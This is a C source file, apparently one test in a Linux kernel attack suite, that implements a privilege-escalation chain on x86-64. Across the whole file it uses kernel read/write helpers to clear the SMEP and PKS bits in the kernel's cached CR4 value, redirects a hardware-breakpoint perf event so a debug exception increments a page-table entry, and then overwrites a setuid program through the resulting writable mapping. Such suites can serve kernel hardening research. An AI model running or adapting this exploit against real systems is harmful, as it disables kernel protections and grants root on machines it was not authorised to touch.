// SPDX-License-Identifier: GPL-2.0-only
/*
 * CR4 is written from a copy in ordinary memory. What is pinned in it is looked at
 * behind the write, and written again: for some instructions the CPU does not ask
 * for keys. There a breakpoint of the process's own, moved in the kernel's record
 * of it, has the debug exception count in what stands for the event: an entry.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "breakpoint.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define CHILD_CPU	1
#define CHILD_PART	0x5a
#define PAGES		512
#define CODE		128

#define DR7_EXECUTE	1UL

/* struct tlb_state */
#define TLB_CR4		24
#define CR4_SMEP	(1UL << 20)
#define CR4_PKS		(1UL << 24)

/* struct perf_event. What is read of it besides is to be zero. */
#define EVENT_COUNT	176
#define EVENT_TYPE	(is_since(7, 3) ? 385 : 377)	/* of a breakpoint */
#define EXECUTE		0x80

static struct {
	uint64_t decoy;
} *child;

/* "jmp" back to the first write, taken where bits are missing only. */
static int find_jump(const unsigned char *code)
{
	int i;

	for (i = 16; i < CODE - 1; i++)
		if (code[i] == 0xeb && code[i + 1] >= 0x80 &&
		    i + 2 + (signed char)code[i + 1] >= 4 && i + 2 + (signed char)code[i + 1] < 16)
			return i;
	return 0;
}

/* Behind the first one, if the compiler made it otherwise. */
static int find_write(const unsigned char *code)
{
	int i;

	for (i = 0; i < CODE - 3; i++)
		if (code[i] == 0x0f && code[i + 1] == 0x22 && (code[i + 2] & 0xf8) == 0xe0)
			return i + 3;
	return 0;
}

static uint64_t find_window(void)
{
	uint64_t at = ksymbol("native_write_cr4");
	unsigned char code[CODE];
	int window;

	if (!at || kread(at, code, sizeof(code)))
		return 0;
	/* Where there are no keys, any place in it will do. */
	window = is_protected() ? find_jump(code) : 0;
	window = window ?: find_write(code);
	return window ? at + window : 0;
}

/* The entry of a page whose number ends in 8 says "breakpoint" where it is read. */
static int find_page(volatile char *base)
{
	struct slot slot;
	int i;

	for (i = 100; i < 400; i++) {
		base[i * PAGE_SIZE] = 1;
		if (kwalk((uint64_t)base + i * PAGE_SIZE, LEVEL_PTE, 0, &slot))
			return -1;
		if ((slot.value >> 8 & 0xff) == EXECUTE)
			return i;
	}
	return -1;
}

/* A file that must not be written, below which the entries are as wanted. */
static volatile char *make_table(uint64_t *entry)
{
	volatile char *base = mmap((void *)user_room(CHILD_PART), PAGES * PAGE_SIZE,
				   PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
				   MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0), *at;
	struct slot slot;
	int page;

	if (base == MAP_FAILED)
		return NULL;
	madvise((void *)base, PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
	page = find_page(base);
	if (page < 0)
		return NULL;
	munmap((void *)base, page * PAGE_SIZE);
	munmap((void *)(base + (page + 1) * PAGE_SIZE), (PAGES - page - 1) * PAGE_SIZE);
	at = base + (page - (EVENT_TYPE - EVENT_COUNT) / 8) * PAGE_SIZE;
	at = setuid_program_map((uint64_t)at);
	if (!at || kwalk((uint64_t)at, LEVEL_PTE, 0, &slot))
		return NULL;
	*entry = slot.slot;
	return at;
}

/* Each of the two has CR4 written, and the entry counted up: 5 becomes 7. */
static int count_in(uint64_t entry)
{
	uint64_t events = ksymbol_cpu("bp_per_reg", CHILD_CPU), event = kread64(events);
	uint64_t copy = ksymbol_cpu("cpu_tlbstate", CHILD_CPU) + TLB_CR4, cr4 = kread64(copy);
	int err;

	if (!is_kernel_address(event) || cr4 >> 32 || !(cr4 & CR4_SMEP))
		return -1;
	err = kwrite64(copy, cr4 & ~(CR4_SMEP | CR4_PKS));
	err = err ?: kwrite64(events, entry - EVENT_COUNT);
	prctl(PR_SET_TSC, PR_TSC_SIGSEGV);
	prctl(PR_SET_TSC, PR_TSC_ENABLE);
	kwrite64(events, event);
	kwrite64(copy, cr4);
	return err;
}

static void run_child(void)
{
	volatile char *file;
	uint64_t entry, old;
	int err;

	stay_on_cpu(CHILD_CPU);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	file = make_table(&entry);
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	if (!file) {
		broken("no page table as it is wanted");
		_exit(0);
	}
	old = kread64(entry);
	err = count_in(entry);
	if (kread64(entry) != old + 2) {
		lost("the entry is %#lx, and was %#lx (error %d)", kread64(entry), old, err);
		_exit(0);
	}
	flush_tlb();
	setuid_program_overwrite(file);
	_exit(0);
}

enum outcome cr4_shadow(void)
{
	uint64_t window = find_window();
	int status;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	child = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (!window || child == MAP_FAILED)
		return broken("native_write_cr4() is not as it was");
	stay_on_cpu(0);
	lost("the child died");
	pid = fork();
	if (!pid)
		run_child();
	if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status))
		return broken("no child");
	if (!breakpoint_set(pid, DR7_EXECUTE, (uint64_t)&child->decoy) ||
	    !breakpoint_move(pid, (uint64_t)&child->decoy, window)) {
		kill(pid, SIGKILL);
		return broken("no breakpoint");
	}
	do {
		ptrace(PTRACE_CONT, pid, NULL, NULL);
	} while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status));
	return WON;	/* what the child said */
}
#else
enum outcome cr4_shadow(void)
{
	return skipped("x86-64 only");
}
#endif
